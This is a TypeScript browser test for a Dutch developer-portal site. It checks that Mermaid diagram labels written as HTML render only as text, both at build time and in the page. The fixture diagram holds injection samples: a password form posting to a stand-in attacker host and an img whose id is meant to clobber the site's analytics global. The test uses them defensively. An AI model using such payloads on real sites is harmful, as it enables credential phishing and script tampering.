/**
 * A diagram label written as HTML, in the browser: drawn at build time
 * (Chromium at the io edge) or in the page (no Chromium at build time), the
 * page under the production headers shows the label's text and holds no form
 * control, image, `foreignObject` or id of the label's choosing, and axe finds
 * nothing on the diagram page.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import axe from 'axe-core';
import puppeteer, { type Browser, type Page } from 'puppeteer-core';
import { runBuild } from '../../pipeline/schedule/schedule.ts';
import { writeSite } from '../../pipeline/io/write.ts';
import { startServer, type RunningServer } from '../../pipeline/io/server.ts';
import { chromiumArgs, chromiumPath } from '../../pipeline/chromium.ts';
import { diagramChromiumPath } from '../../pipeline/io/mermaid.ts';
import { securityHeaders } from '../../pipeline/stages/server-config/csp.ts';
import { parseData } from '../../pipeline/stages/parse.ts';
import { valueOf } from '../../pipeline/result.ts';
import { validateConfig } from '../../pipeline/stages/validate.ts';
import { hasErrors } from '../../pipeline/problem.ts';
import { formatProblems } from '../../pipeline/cli/report.ts';
import { configText, minimalAuthors, minimalTags, root } from '../helpers.ts';
import { skip } from '../skip.ts';

const test = suite('e2e: mermaid labels written as HTML');

const diagram = [
  'flowchart LR',
  '  A["<form action=\'https://evil.example/s\'><input type=\'password\'><button>OK</button></form>"] --> B["Besluit"]',
  '  C["<img id=\'ontwikkelaarsportaal\' src=\'https://evil.example/x.png\'>"] --> D["regel een<br>regel twee"]',
].join('\n');
const files: Record<string, string> = {
  'kennisbank/index.md': '---\ntitle: Kennisbank\n---\n\nWelkom.\n',
  'communities/index.md': '---\ntitle: Communities\n---\n\nSamen.\n',
  'tags.yml': minimalTags,
  'blog/authors.yml': minimalAuthors,
  'kennisbank/diagram.md': `---\ntitle: Met diagram\n---\n\nZo loopt een aanvraag:\n\n\`\`\`mermaid\n${diagram}\n\`\`\`\n`,
};

const config = valueOf(validateConfig(valueOf(parseData({ path: 'site.yml', display: 'dist-config/site.yml', text: configText }))));
if (!config) throw new Error('dist-config/site.yml is invalid');

interface Site { readonly origin: string; readonly warnings: ReadonlyArray<string>; readonly close: () => Promise<void> }

/** The tiny site built and served; `drawer` "browser" leaves the diagram to the page. */
async function serve(dir: string, drawer: 'build' | 'browser'): Promise<Site> {
  for (const [file, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, 'content', file)), { recursive: true });
    fs.writeFileSync(path.join(dir, 'content', file), text);
  }
  const previous = process.env.ONTWIKKELAARSPORTAAL_MERMAID;
  if (drawer === 'browser') process.env.ONTWIKKELAARSPORTAAL_MERMAID = 'browser';
  let result: Awaited<ReturnType<typeof runBuild>>;
  try {
    result = await runBuild({ content: path.join(dir, 'content'), config: path.join(root, 'dist-config/site.yml'), mode: 'production', render: true, cacheDir: path.join(dir, 'cache') });
  } finally {
    if (previous === undefined) delete process.env.ONTWIKKELAARSPORTAAL_MERMAID;
    else process.env.ONTWIKKELAARSPORTAAL_MERMAID = previous;
  }
  if (hasErrors(result.problems)) throw new Error(`De testbuild faalt:\n${formatProblems(result.problems, { colour: false })}`);
  await writeSite(path.join(dir, 'site'), result.files);
  const server: RunningServer = await startServer({ root: path.join(dir, 'site'), port: 0, dev: false, headers: securityHeaders(config!, { https: false }) });
  server.server.unref();
  return {
    origin: server.url.replace('localhost', '127.0.0.1'),
    warnings: result.problems.map((p) => `${p.severity} ${p.code} ${p.file}:${p.line}`),
    close: async () => {
      server.server.closeAllConnections();
      await new Promise((r) => server.server.close(r));
    },
  };
}

/** What the diagram page holds once its diagram is drawn. */
async function drawnPage(tab: Page, url: string) {
  const errors: string[] = [];
  tab.on('pageerror', (e) => errors.push(String(e)));
  tab.on('console', (m) => { if (m.type() === 'error' && !m.text().startsWith('Failed to load resource')) errors.push(m.text()); });
  await tab.setRequestInterception(true);
  tab.on('request', (r) => (new URL(r.url()).hostname === '127.0.0.1' ? void r.continue() : void r.respond({ status: 200, contentType: 'text/javascript', body: '' })));
  await tab.goto(url, { waitUntil: 'load' });
  await tab.waitForSelector('figure.mermaid-diagram[role="img"] svg', { timeout: 20_000 });
  const page = await tab.evaluate(() => {
    const figure = document.querySelector('figure.mermaid-diagram');
    return {
      text: figure?.querySelector('svg')?.textContent ?? '',
      inFigure: [...(figure?.querySelectorAll('*') ?? [])].map((e) => e.localName).filter((n) => ['form', 'input', 'button', 'img', 'foreignObject', 'foreignobject', 'div', 'span', 'p'].includes(n)),
      passwords: document.querySelectorAll('input[type="password"], form[action^="https://evil"]').length,
      // A named element is a property of window: the label's id must not take the analytics' global (theme/static/analytics.js).
      clobbered: (window as unknown as Record<string, unknown>)['ontwikkelaarsportaal'] instanceof Element || document.getElementById('ontwikkelaarsportaal') !== null,
    };
  });
  return { ...page, errors };
}

/** axe's WCAG A and AA violations on the page, one line each. */
async function axeViolations(tab: Page): Promise<string[]> {
  await tab.evaluate(axe.source);
  return tab.evaluate(async () => {
    const run = (window as unknown as { axe: typeof axe }).axe.run;
    const { violations } = await run(document, { runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'] }, resultTypes: ['violations'] });
    return violations.flatMap((v) => v.nodes.map((n) => `${v.id}: ${n.target.join(' ')}`));
  });
}

let browser: Browser | null = null;
const dirs: string[] = [];
const tmp = () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ontwikkelaarsportaal-mermaid-labels-'));
  dirs.push(dir);
  return dir;
};

test.before(async () => {
  browser = await puppeteer.launch({ executablePath: chromiumPath, headless: true, userDataDir: path.join(tmp(), 'chromium'), args: chromiumArgs });
});

test.after(async () => {
  await browser?.close();
  for (const dir of dirs) fs.rmSync(dir, { recursive: true, force: true });
});

for (const drawer of ['build', 'browser'] as const) {
  test(`drawn in the ${drawer === 'build' ? 'build' : 'browser'}: the label shows as text, nothing of its HTML is on the page, and axe finds nothing`, async () => {
    if (drawer === 'build' && !fs.existsSync(diagramChromiumPath)) return skip(`no Chromium at ${diagramChromiumPath} to draw at build time`);
    const site = await serve(tmp(), drawer);
    try {
      assert.equal(site.warnings.filter((w) => w.startsWith('warning mermaid-html-label')).map((w) => w.replace(/^.*\/content\//, 'content/')),
        ['content/kennisbank/diagram.md:9', 'content/kennisbank/diagram.md:10']);
      const tab = await browser!.newPage();
      await tab.setViewport({ width: 1280, height: 900 });
      const page = await drawnPage(tab, `${site.origin}/kennisbank/diagram`);
      assert.equal(page.inFigure, [], 'no HTML in the drawing');
      assert.is(page.passwords, 0);
      assert.not.ok(page.clobbered, 'no element takes the global the label names');
      assert.match(page.text, /Besluit/);
      assert.match(page.text, /regel een/);
      assert.match(page.text, /OK/, 'a label written as HTML shows its text');
      assert.equal(page.errors, []);
      assert.equal(await axeViolations(tab), []);
      await tab.close();
    } finally {
      await site.close();
    }
  });
}

test.run();
